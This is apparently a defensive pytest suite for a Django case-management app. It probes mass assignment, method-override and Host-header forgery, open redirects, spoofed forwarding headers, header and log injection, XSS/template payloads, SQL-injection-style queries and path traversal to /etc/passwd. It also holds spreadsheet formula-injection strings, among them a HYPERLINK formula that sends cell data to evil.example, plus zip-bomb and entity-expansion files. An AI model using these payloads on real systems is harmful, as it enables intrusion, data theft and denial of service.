"""Attacks on the forms and addresses themselves: what is sent, by which method, with which headers, how often, by whom."""

from __future__ import annotations

import io
import json
import logging
import zipfile
from collections.abc import Iterator
from typing import Any
from uuid import uuid4

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from huying.cases.models import Case, Event
from huying.handling.models import Item
from huying.intake.models import Batch
from huying.kernel.models import Once
from huying.ledger.models import Export
from huying.notices.rules import letter
from huying.org.models import Unit, User
from huying.privacy.rules import CONSENT_VERSION
from huying.site import logs
from tests.factories import world as make
from tests.factories.world import World
from tests.files.samples import rezip

pytestmark = pytest.mark.django_db
FORMULAS = ("=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1)", '=HYPERLINK("http://evil.example?"&A1,"点我")', "\t=1+1")


@pytest.fixture(autouse=True)
def frozen(now: Any) -> Iterator[None]:
    with time_machine.travel(now, tick=False):
        yield


def browser(world: World, name: str, **headers: Any) -> Client:
    client = Client(raise_request_exception=False, **headers)
    client.force_login(world.posts[name].person.user)
    return client


def accepting(world: World, **more: Any) -> dict[str, Any]:
    """The form of accepting, filled in."""
    return {
        "content_class": "rights", "category": "living", "difficulty": "easy", "title": "末班车提前", "once": uuid4().hex,
        "officer": str(world.posts["officer"].pk), "summary": "末班车提前，晚班职工赶不上。", **more,
    }  # fmt: skip


def address(case: Case, act: str) -> str:
    return reverse("desk:case_act", args=[case.pk, act])


# --- what is sent -------------------------------------------------------------------------------------------------------


@pytest.mark.attack(
    "colleague", "adds fields a form does not have: state, number, root, secrecy, who decides", found="held"
)
def test_fields_a_form_does_not_have_change_nothing(world: World) -> None:
    case, twin = make.said(world), make.said(world)
    extra = {"status": "archived", "seq": "999", "root": str(world.other.pk), "holder": str(world.other.pk), "secrecy": "named",
             "urgent": "on", "id": str(twin.pk), "is_superuser": "1", "by": str(world.posts["chair"].pk)}  # fmt: skip
    assert browser(world, "officer").post(address(case, "accept"), accepting(world, **extra)).status_code == 302
    case.refresh_from_db()
    twin.refresh_from_db()
    assert (case.status, case.root_id, case.holder_id, case.urgent) == ("accepted", twin.root_id, twin.holder_id, False)
    assert twin.status == "registered"
    assert case.seq != 999
    assert case.parties.get().secrecy == "sealed"


@pytest.mark.attack(
    "colleague", "gives themself rights with fields added to the form of their own password", found="held"
)
def test_the_password_form_gives_no_rights(world: World) -> None:
    client = browser(world, "officer")
    client.post(
        "/accounts/password/change/", {"oldpassword": "x", "password1": "y", "is_staff": "on", "is_superuser": "on"}
    )
    user = User.objects.get(pk=world.posts["officer"].person.user.pk)
    assert not getattr(user, "is_superuser", False)
    assert not getattr(user, "is_staff", False)


@pytest.mark.attack(
    "colleague", "names a post of another union as the officer of a case, alone and beside a right one", found="held"
)
def test_ids_of_others_inside_a_form_are_refused(world: World) -> None:
    case, client = make.said(world), browser(world, "officer")
    theirs = str(world.posts["foreign"].pk)
    for officer in (theirs, [str(world.posts["officer"].pk), theirs]):
        answer = client.post(address(case, "accept"), accepting(world, officer=officer))
        assert answer.status_code == 422
    case.refresh_from_db()
    assert case.status == "registered"


@pytest.mark.attack("colleague", "assigns a case to a department and a handler of another unit", found="held")
def test_a_department_of_another_unit_cannot_be_named(world: World) -> None:
    from tests.factories.org import make_department

    case, away = make.accepted(world), make_department(world.other, "总务科")
    data = {"measure": "恢复", "department": str(away.pk), "handler": str(world.posts["foreign"].pk), "brief": "班车",
            "deadline": "2026-11-26", "once": uuid4().hex}  # fmt: skip
    assert browser(world, "officer").post(address(case, "assign"), data).status_code == 422
    assert not Item.objects.filter(case=case).exists()


@pytest.mark.attack(
    "chair", "asks for the papers of chosen cases and puts the id of the one about them among them", found="held"
)
def test_papers_of_a_hidden_case_cannot_be_asked_for_by_id(world: World) -> None:
    from huying.cases.rules import Concerns

    hidden = make.accepted(world, concerns=Concerns(chair=True))
    answer = browser(world, "chair").post(
        reverse("desk:ledger_papers"), {"paper": "form1.pdf", "only": str(hidden.pk), "once": uuid4().hex}
    )
    assert (
        answer.status_code in (404, 409, 422)
        or not Export.objects.filter(asked_by__person=world.posts["chair"].person).exists()
    )
    assert str(hidden.number) not in answer.content.decode()


# --- how it is sent -----------------------------------------------------------------------------------------------------


@pytest.mark.attack("clerk", "sends acts by other methods, or says in a header or field that GET is POST", found="held")
def test_only_the_method_of_the_form_acts(world: World) -> None:
    case, client = make.said(world), browser(world, "officer")
    data = accepting(world)
    for method in ("PUT", "PATCH", "DELETE", "TRACE", "ACCEPT"):
        answer = client.generic(method, address(case, "accept"), json.dumps(data), "application/json")
        assert answer.status_code == 405, method
    for headers in (
        {"HTTP_X_HTTP_METHOD_OVERRIDE": "POST"},
        {"HTTP_X_METHOD_OVERRIDE": "POST"},
        {"HTTP_X_HTTP_METHOD": "POST"},
    ):
        client.get(address(case, "accept"), {**data, "_method": "POST"}, **headers)
    case.refresh_from_db()
    assert case.status == "registered"
    assert not Once.objects.exists()


@pytest.mark.attack("outsider", "claims with HTMX headers to be a part of a page that is already open", found="held")
@pytest.mark.parametrize("header", ["HTTP_HX_REQUEST", "HTTP_HX_BOOSTED", "HTTP_HX_HISTORY_RESTORE_REQUEST"])
def test_htmx_headers_open_nothing(header: str, world: World) -> None:
    from huying.cases.rules import Concerns

    hidden = make.accepted(world, concerns=Concerns(chair=True))
    page = reverse("desk:case", args=[hidden.pk])
    extra = {header: "true", "HTTP_HX_CURRENT_URL": f"http://testserver{page}", "HTTP_HX_TARGET": "main"}
    assert Client().get(page, **extra).status_code == 302
    answer, missing = (
        browser(world, "chair").get(one, **extra) for one in (page, reverse("desk:case", args=[uuid4()]))
    )
    assert (answer.status_code, answer.content) == (404, missing.content)
    assert "HX-Redirect" not in answer.headers


@pytest.mark.attack(
    "outsider", "sends another host's name, plain or forwarded, to get links that lead elsewhere", found="held"
)
def test_a_forged_host_is_turned_away_or_ignored(world: World) -> None:
    assert Client(raise_request_exception=False).get("/", HTTP_HOST="evil.example").status_code == 400
    answer = Client().get(f"/u/{world.shop.code}/", HTTP_X_FORWARDED_HOST="evil.example", HTTP_X_FORWARDED_PROTO="https",
                          HTTP_FORWARDED="host=evil.example", HTTP_X_ORIGINAL_URL="/desk/trail/")  # fmt: skip
    assert answer.status_code == 200
    assert "evil.example" not in answer.content.decode()
    sent = {"words": "食堂", "secrecy": "anonymous", "agreed": "on", "consent": CONSENT_VERSION, "once": uuid4().hex}
    moved = Client().post(f"/u/{world.shop.code}/", sent, HTTP_X_FORWARDED_HOST="evil.example")
    assert moved["Location"].startswith("/")


@pytest.mark.attack("outsider", "sends people on from the sign-in page to a site of their own", found="held")
@pytest.mark.parametrize("to", ["//evil.example/", "https://evil.example/", "/\\evil.example", "javascript:alert(1)"])
def test_signing_in_leads_to_our_own_pages_only(to: str, world: World) -> None:
    user = world.posts["officer"].person.user
    user.set_password("ein-langes-Wort-9")
    user.must_change_password = False
    user.save()
    answer = Client().post(
        f"/accounts/login/?next={to}", {"login": user.username, "password": "ein-langes-Wort-9", "next": to}
    )
    assert answer.status_code == 302
    assert answer["Location"] == "/desk/"


@pytest.mark.attack(
    "outsider", "changes the forwarded address with every try, to guess receipts without being slowed", found="held"
)
def test_a_forwarded_address_is_not_believed_without_a_proxy(world: World) -> None:
    answers = []
    for number in range(60):
        client = Client(
            REMOTE_ADDR="10.1.2.3", HTTP_X_FORWARDED_FOR=f"10.8.0.{number}", HTTP_X_REAL_IP=f"10.8.0.{number}"
        )
        answers.append(client.post(reverse("public:my"), {"receipt": f"{number:016d}"}).status_code)
    assert 429 in answers, f"never slowed: {set(answers)}"


# --- how often, by whom -------------------------------------------------------------------------------------------------


@pytest.mark.attack("colleague", "sends the form again from a second computer after it was acknowledged", found="held")
def test_the_same_form_from_two_sessions_counts_once(world: World) -> None:
    case, data = make.said(world), accepting(world)
    first, second = (browser(world, "officer").post(address(case, "accept"), data) for _ in range(2))
    assert (first.status_code, second.status_code) == (302, 302)
    assert first["Location"] == second["Location"]
    assert Event.objects.filter(case=case, act="accept").count() == 1


@pytest.mark.attack(
    "colleague",
    "replays the idempotency key of somebody else's form, to be led to where it led or to block it",
    found="held",
)
def test_the_key_of_anothers_form_is_worth_nothing(world: World) -> None:
    mine, theirs, key = make.said(world), make.said(world, place=world.other), uuid4().hex
    first = browser(world, "officer").post(address(mine, "accept"), accepting(world, once=key))
    officer = str(world.posts["foreign"].pk)
    second = browser(world, "foreign").post(address(theirs, "accept"), accepting(world, once=key, officer=officer))
    assert (first.status_code, second.status_code) == (302, 302)
    assert str(mine.pk) not in second["Location"]
    assert browser(world, "handler").post(address(mine, "accept"), accepting(world, once=key)).status_code == 404
    assert Event.objects.filter(act="accept").count() == 2


# --- what comes out and in ----------------------------------------------------------------------------------------------


@pytest.mark.attack(
    "worker", "writes formulas, so that the office's spreadsheet runs them when it opens the ledger", found="held"
)
@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_text_in_the_ledgers_workbook(formula: str, world: World) -> None:
    make.accepted(world, title=f"{formula}x"[:60], summary=formula)
    answer = browser(world, "officer").get(reverse("desk:ledger_xlsx"))
    assert answer.status_code == 200
    content = b"".join(answer.streaming_content) if answer.streaming else answer.content  # type: ignore[arg-type]
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert any(formula.strip() in str(cell.value) for cell in cells)
    assert {cell.data_type for cell in cells} <= {"s", "n", "d", "b"}, "a cell is a formula"
    assert not [cell for cell in cells if cell.hyperlink]


def _workbook() -> bytes:
    book, out = Workbook(), io.BytesIO()
    book.active.append(["内容", "收到时间"])
    book.active.append(["食堂没有热水", "2026-11-18"])
    book.save(out)
    return out.getvalue()


def _reaching(row: int, column: int) -> bytes:
    """A small workbook with one word far away."""
    book, out = Workbook(), io.BytesIO()
    book.active.append(["内容", "收到时间"])
    book.active.append(["食堂没有热水", "2026-11-18"])
    book.active.cell(row=row, column=column).value = "远"
    book.save(out)
    return out.getvalue()


def _sheet_of(inside: str) -> bytes:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'<worksheet xmlns="{space}"><sheetData>{inside}</sheetData></worksheet>'.encode()


def _with_sheet(inside: str) -> bytes:
    return rezip(_workbook(), {"xl/worksheets/sheet1.xml": _sheet_of(inside)})


def _zip(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in files.items():
            made.writestr(name, content)
    return out.getvalue()


LAUGH = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(
        b'<!ENTITY a%d "%s">' % (number, b"&a%s;" % (b"%d" % (number - 1) if number else b"") * 10)
        for number in range(12)
    )
    + b"]><sst><si><t>&a11;</t></si></sst>"
)
SHEETS = {
    "zip bomb": lambda: rezip(_workbook(), {"xl/worksheets/sheet9.xml": bytes(30_000_000)}),
    "entities that grow": lambda: rezip(_workbook(), {"xl/sharedStrings.xml": LAUGH}),
    "one word in the last cell": lambda: _reaching(1_048_576, 16_384),
    "one word a long way off": lambda: _reaching(1_000_000, 300),
    "cells past the last column": lambda: _with_sheet(
        "<row r='1'><c r = 'A1'/><c r='ZZZZZZZ1'/></row><row r='99'><c r='A99'/></row>"
    ),
    "many cells that do not say where, far down": lambda: _with_sheet(
        f"<row r='900000'>{'<c/>' * 9_000}</row><row r='1'><c/></row>"
    ),
    "a page that is no sheet by its name": lambda: rezip(
        _workbook(), {"xl/x.xml": _sheet_of("<row r='1048576'><c r='XFD1048576'/></row>")}
    ),
    "another kind of workbook": lambda: _zip(
        **{"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}
    ),
    "half a million columns and a thousand lines": lambda: b"a," * 500_000 + b"\na,b" * 1_000,
    "a sheet that unpacks to 120 MB": lambda: rezip(
        _workbook(), {"xl/worksheets/sheet1.xml": _sheet_of(" " * 120_000_000)}
    ),
    "zip of nothing known": lambda: _zip(a=b"x"),
    "cut off": lambda: _workbook()[:-200],
    "one line with a million commas": lambda: b"," * 1_000_000,
    "a quote never closed": lambda: b'\xef\xbb\xbf"' + "内容,".encode() * 100_000,
    "no text at all": lambda: bytes(range(256)) * 400,
    "NUL everywhere": lambda: "内容,收到时间\n".encode() + b"\x00" * 10_000,
}


@pytest.mark.attack(
    "colleague", "brings in a workbook of five kilobytes whose last cell has a word, or one that unpacks without end, to stop the site",
    found="mended: the reader asked for 512 GB and the process ended, a quote never closed broke the page; weighed and refused now",
)  # fmt: skip
@pytest.mark.parametrize("kind", SHEETS)
def test_a_hostile_sheet_is_refused_in_words(kind: str, world: World) -> None:
    content = SHEETS[kind]()
    name = "来件.xlsx" if content[:2] == b"PK" else "来件.csv"
    upload = SimpleUploadedFile(name, content)
    client = browser(world, "officer")
    answer = client.post(reverse("desk:import"), {"sheet": upload, "once": uuid4().hex})
    if answer.status_code == 302:
        answer = client.get(answer["Location"])
    assert answer.status_code in (200, 409, 422)
    assert not Case.objects.exists()
    for batch in Batch.objects.all():
        run = client.post(reverse("desk:import_run", args=[batch.pk]), {"once": uuid4().hex})
        assert run.status_code in (302, 409, 422)
    assert "Traceback" not in answer.content.decode()


@pytest.mark.attack(
    "security", "brings in a list of people whose last cell has a word, to stop the site",
    found="mended: the same reader; weighed and refused now",
)  # fmt: skip
@pytest.mark.parametrize("kind", [kind for kind in SHEETS if "line" not in kind and "quote" not in kind])
def test_a_hostile_list_of_people_is_refused_in_words(kind: str, world: World) -> None:
    upload = SimpleUploadedFile("人员.xlsx", SHEETS[kind]())
    units = Unit.objects.count()
    answer = browser(world, "system").post(reverse("desk:org-import"), {"workbook": upload, "once": uuid4().hex})
    page = answer.content.decode()
    assert answer.status_code in (200, 422)
    assert any(words in page for words in ("打不开这个文件", "这个表格太大了", "没有找到可以导入的页")), page[:300]
    assert Unit.objects.count() == units


@pytest.mark.attack(
    "security", "puts a line break into an address or a title, to add recipients or headers to letters", found="held"
)
def test_letters_take_no_line_breaks(world: World) -> None:
    from django.core.mail import EmailMessage
    from django.core.mail.message import BadHeaderError

    person = world.posts["delegate"].person
    client = browser(world, "security")
    answer = client.post(reverse("desk:org-account-new", args=[person.pk]),
                         {"username": "neu", "email": "a@example.org\nBcc: b@example.org", "once": uuid4().hex})  # fmt: skip
    assert answer.status_code != 302
    assert not User.objects.filter(email__contains="Bcc").exists()
    subject, body = letter("一件\nBcc: b@example.org", "/desk/")
    with pytest.raises(BadHeaderError):
        EmailMessage(subject, body, "huying@localhost", ["a@example.org"]).message()


@pytest.mark.attack(
    "outsider",
    "signs in with line breaks in the name and asks for strange hosts, to write lines into the log",
    found="held",
)
def test_nobody_writes_lines_into_the_log(world: World) -> None:
    lines: list[str] = []

    class Told(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            lines.extend((logs.formatter().format(record), logs.Kept().format(record)))

    handler, evil = Told(), 'x\n{"event": "huying.forged", "level": "error"}\r\n'
    logging.getLogger().addHandler(handler)
    try:
        client = Client(raise_request_exception=False)
        client.post("/accounts/login/", {"login": evil, "password": evil})
        client.get("/", HTTP_HOST=evil, HTTP_X_REQUEST_ID=evil, HTTP_USER_AGENT=evil)
        client.get("/find/", {"q": evil})
        logging.getLogger("tests").error("said %s", evil)
    finally:
        logging.getLogger().removeHandler(handler)
    assert lines
    for line in lines:
        assert "\n" not in line
        assert json.loads(line)["event"] != "huying.forged"


@pytest.mark.attack(
    "worker", "writes markup and template code, to run in the browser of whoever reads the case", found="held"
)
def test_what_was_said_is_never_markup(world: World) -> None:
    evil = '"><script>alert(1)</script>{{7*7}}{% debug %}<img src=x onerror=alert(1)>'
    case = make.accepted(world, make.voice(secrecy="named", name="马<b>丽", words=evil), title=evil[:60], summary=evil)
    client = browser(world, "officer")
    pages = [reverse("desk:case", args=[case.pk]), reverse("desk:cases"), reverse("desk:ledger"), reverse("desk:today"),
             reverse("desk:search") + "?q=script", reverse("desk:case_act", args=[case.pk, "assign"])]  # fmt: skip
    for page in pages:
        answer = client.get(page)
        assert answer.status_code == 200
        text = answer.content.decode()
        assert "<script>alert" not in text
        assert "<img src=x" not in text
        assert "49{" not in text


@pytest.mark.attack(
    "colleague", "searches with wildcards and operators, to list what the words would not have found", found="held"
)
@pytest.mark.parametrize(
    "query", ["%", "_", "%%%", "*", "' OR 1=1 --", '" OR ""="', "NEAR(a b)", "a* OR b*", "^", "a:b", "(((", "AND"]
)
def test_wildcards_find_nothing(query: str, world: World) -> None:
    case = make.accepted(world)
    page = browser(world, "officer").get(reverse("desk:search"), {"q": query}).content.decode()
    assert str(case.pk) not in page


@pytest.mark.attack("outsider", "walks out of the manual's and the files' folders by dots in the address", found="held")
@pytest.mark.parametrize("path", [
    "/desk/manual/../../../etc/passwd/", "/desk/manual/..%2f..%2f..%2fetc%2fpasswd/", "/static/../huying.sqlite3",
    "/static/..%2f..%2fkeys/huying-keys.json", "/static/huying/../../../keys/secret", "/desk/manual/%2e%2e/",
])  # fmt: skip
def test_no_address_leads_out_of_its_folder(path: str, world: World) -> None:
    answer = browser(world, "officer").get(path)
    content = b"".join(answer.streaming_content) if answer.streaming else answer.content  # type: ignore[arg-type]
    assert answer.status_code in (301, 400, 404)
    assert b"root:" not in content
    assert b"SQLite" not in content
